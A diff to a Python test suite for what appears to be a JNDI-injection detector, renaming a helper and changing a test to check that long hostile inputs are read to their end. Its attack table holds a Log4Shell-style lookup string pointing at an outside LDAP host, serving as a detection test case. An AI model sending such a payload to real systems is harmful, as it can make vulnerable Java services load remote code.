@@ -5,7 +5,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from bavn.payloads.jndi import jndi_injection
-from tests.work import is_in_proportion
+from tests.work import read_to_the_end
 
 ATTACKS = (
     ("${jndi:ldap://203.0.113.9/a}", "jndi-lookup"),
@@ -75,8 +75,8 @@ def test_no_text_makes_it_raise(value: str) -> None:
 
 
 @pytest.mark.parametrize("unit", ["${", "${${", "${a:", "}"])
-def test_twice_the_hostile_text_is_about_twice_the_work(unit: str) -> None:
-    assert is_in_proportion(jndi_injection, unit)
+def test_a_hostile_text_however_long_is_read_to_its_end(unit: str) -> None:
+    read_to_the_end(jndi_injection, unit)
 
 
 def test_look_ups_nested_deeper_than_any_honest_one_are_reported_without_recursion() -> None:
